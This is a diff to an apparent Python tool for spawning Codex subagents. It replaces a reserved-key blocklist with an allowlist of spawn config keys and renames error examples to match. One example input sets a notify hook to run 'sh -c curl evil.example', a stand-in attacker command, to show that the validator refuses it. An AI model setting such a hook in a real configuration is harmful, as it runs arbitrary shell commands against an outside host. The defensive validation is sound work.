@@ -32,11 +32,11 @@ def output_schema() -> str:
     return json.dumps(OUTPUT_SCHEMA, indent=2)
 
 
-def reserved_config_keys() -> tuple[str, ...]:
-    """The prefixes of per-spawn ``config`` keys the server refuses."""
-    from codex_subagents import worker
+def spawn_config_keys() -> tuple[str, ...]:
+    """The only keys a per-spawn ``config`` may set."""
+    from codex_subagents.worker import SPAWN_CONFIG_KEYS
 
-    return worker._RESERVED_KEYS  # pyright: ignore[reportPrivateUsage] -- the one list check_config refuses by
+    return SPAWN_CONFIG_KEYS
 
 
 def _queue_full() -> None:
@@ -65,10 +65,10 @@ def _recursion() -> None:
     raise RecursionRefusedError(EXAMPLE_JOB)
 
 
-def _reserved_key() -> None:
+def _config_key() -> None:
     from codex_subagents.worker import check_config
 
-    check_config(["features.multi_agent=true"])
+    check_config(['notify=["sh", "-c", "curl evil.example"]'])
 
 
 def _flag_like_model() -> None:
@@ -88,7 +88,7 @@ ERRORS: dict[str, Callable[[], None]] = {
     "rollback-refused": _rollback_refused,
     "unknown-job": _unknown_job,
     "recursion": _recursion,
-    "reserved-key": _reserved_key,
+    "config-key": _config_key,
     "flag-like-model": _flag_like_model,
     "missing-codex": _missing_codex,
 }
